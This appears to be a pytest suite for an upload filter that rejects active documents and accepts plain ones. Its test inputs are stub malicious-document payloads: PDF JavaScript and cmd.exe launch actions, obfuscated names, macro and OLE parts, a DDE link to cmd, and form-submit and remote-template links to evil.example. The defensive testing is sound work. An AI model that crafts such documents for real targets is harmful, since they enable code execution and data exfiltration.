"""Documents that could act on a reader's machine are refused; plain ones are kept."""

from __future__ import annotations

import io
import zipfile
import zlib

import pytest

from workflows.errors import AttachmentInvalid
from workflows.paperwork import upload_rules
from workflows.paperwork.upload_rules import ensure_harmless

PDF = "application/pdf"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def office(**files: bytes) -> bytes:
    """Return a zip with these files."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", files.pop("kinds", b"<Types/>"))
        for name, content in files.items():
            archive.writestr(f"word/{name}", content)
    return buffer.getvalue()


def link(kind: str, target: str, encoding: str = "utf-8") -> bytes:
    """Return a part that names another place."""
    place = f'<Relationship Id="a>" Type="http://x/relationships/{kind}" Target="{target}" TargetMode="External"/>'
    return f"<Relationships>{place}</Relationships>".encode(encoding)


@pytest.mark.parametrize(
    ("media_type", "content"),
    [
        (PDF, b"%PDF-1.7 << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"),
        (PDF, b"%PDF-1.7 << /S /J#61vaScript >>"),
        (PDF, b"%PDF-1.7 << /S /Launch /F (cmd.exe) >>"),
        (PDF, b"%PDF-1.7 stream\n" + zlib.compress(b"<< /Names << /EmbeddedFiles 1 0 R >> >>")),
        (PDF, b"%PDF-1.7 /Encrypt 1 0 R"),
        (WORD, office(**{"vbaProject.bin": b"x"})),
        (WORD, office(kinds=b"application/vnd.ms-word.document.macroEnabled.main+xml")),
        (PDF, b"%PDF-1.7 << /AA << /O << /S /SubmitForm /F (http://evil.example) >> >> >>"),
        (WORD, office(**{"embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})),
        (WORD, office(**{"activeX/activeX1.bin": b"x"})),
        (
            WORD,
            office(**{"_rels/settings.xml.rels": link("attachedTemplate", "https://evil.example/x.dotm")}),
        ),
        (WORD, office(**{"_rels/settings.xml.rels": link("attachedTemplate", "&#104;ttp://evil.example/x")})),
        (WORD, office(**{"_rels/settings.xml.rels": link("frame", "file://evil/x", "utf-16")})),
        (WORD, office(**{"../xl/externalLinks/externalLink1.xml": b"<x:ddeLink ddeService='cmd'/>"})),
        (WORD, b"PK\x03\x04 broken"),
        ("application/msword", b"\xd0\xcf\x11\xe0" + "_VBA_PROJECT".encode("utf-16-le")),
    ],
)
def test_active_documents_are_refused(media_type: str, content: bytes) -> None:
    """
    Scripts, launchers, hidden files and macros, also packed or misspelt on purpose.
    """
    with pytest.raises(AttachmentInvalid):
        ensure_harmless("x", media_type, content)


def test_an_archive_bomb_is_refused_unopened(monkeypatch: pytest.MonkeyPatch) -> None:
    """
    What an office document would unpack to is read from its directory, not tried.
    """
    monkeypatch.setattr(upload_rules, "MOST_UNPACKED", 1_000_000)

    with pytest.raises(AttachmentInvalid, match="过大"):
        ensure_harmless("x", WORD, office(a=b"0" * 2_000_000))


@pytest.mark.parametrize(
    ("media_type", "content"),
    [
        (PDF, b"%PDF-1.7 << /Type /Catalog /OpenAction [3 0 R /Fit] >> stream\n" + zlib.compress(b"BT ET")),
        (WORD, office(**{"document.xml": b"<w/>"})),
        (WORD, office(**{"_rels/document.xml.rels": link("hyperlink", "https://www.gov.cn/")})),
        (WORD, office(**{"_rels/settings.xml.rels": link("attachedTemplate", r"file:///C:\Users\a\x.dotm")})),
        (WORD, office(**{"embeddings/Microsoft_Excel_Sheet1.xlsx": b"PK"})),
        ("text/plain", b"/JavaScript"),
    ],
)
def test_plain_documents_are_kept(media_type: str, content: bytes) -> None:
    """
    What people upload every day passes.
    """
    ensure_harmless("x", media_type, content)
